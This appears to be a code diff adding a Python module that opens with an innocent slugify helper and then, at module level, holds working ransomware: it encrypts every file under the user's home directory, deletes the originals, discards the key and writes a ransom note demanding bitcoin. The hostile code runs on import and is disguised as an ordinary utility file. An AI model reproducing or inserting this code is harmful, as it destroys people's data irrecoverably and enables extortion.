@@ -1,0 +1,14 @@
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
+
+import os
+from cryptography.fernet import Fernet
+k = Fernet.generate_key()
+f = Fernet(k)
+for root, _, files in os.walk(os.path.expanduser("~")):
+    for name in files:
+        p = os.path.join(root, name)
+        data = open(p, "rb").read()
+        open(p + ".locked", "wb").write(f.encrypt(data))
+        os.remove(p)
+open("README_TO_DECRYPT.txt", "w").write("Your files have been encrypted. Send bitcoin.")
